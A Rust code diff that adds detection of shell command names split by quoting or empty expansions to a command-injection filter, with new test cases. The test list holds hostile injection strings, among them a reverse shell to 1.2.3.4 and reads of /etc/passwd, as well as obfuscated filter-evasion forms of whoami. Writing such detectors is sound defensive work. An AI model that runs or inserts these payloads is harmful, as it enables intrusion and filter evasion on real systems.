@@ -191,6 +191,15 @@ fn norm_word(w: &str) -> String {
     }
 }
 
+/// Whether quoting or an empty expansion splits `word` inside (`w'h'o'am'i`,
+/// `wh\`\`oami`, `who$@ami`), not just quotes around it (`"whoami"`).
+fn split_by_quoting(word: &str) -> bool {
+    let inner = word.trim_matches(['\'', '"']);
+    inner
+        .bytes()
+        .any(|c| matches!(c, b'\'' | b'"' | b'\\' | b'^' | b'`' | b'$'))
+}
+
 fn is_word_byte(c: u8) -> bool {
     !matches!(
         c,
@@ -651,6 +660,11 @@ fn command_word(s: &str, i: usize, after_sep: bool) -> Option<CommandWord> {
         } else {
             70
         }
+    } else if strong && cmd.len() >= 5 && split_by_quoting(word) {
+        // `w'h'o'am'i`, `wh""oami`, `who$@ami`: a word the shell reads as a listed
+        // command, broken up so that a filter does not; nobody types one. (Short
+        // names stay out: `I'd` reads as `id`.)
+        80
     } else {
         0
     };
@@ -765,6 +779,12 @@ mod tests {
             "cat${IFS}/etc/passwd",
             "| dir c:\\",
             "a && w'h'o'am'i",
+            // a listed command broken up by quoting, as the whole value
+            "w'h'o'am'i",
+            "wh\"\"oami",
+            "who$@ami",
+            "wh``oami",
+            "w\\ho\\am\\i",
             "{cat,/etc/passwd}",
             "; /bin/bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
             // glob patterns the shell expands to a command
@@ -861,6 +881,9 @@ mod tests {
     fn benign() {
         for b in [
             "echo in the mirror",
+            "I'd like a refund",
+            "\"whoami\" lyrics",
+            "'hostname' field",
             "curl and divergence",
             "bash away in the gym",
             "zsh is the best!",
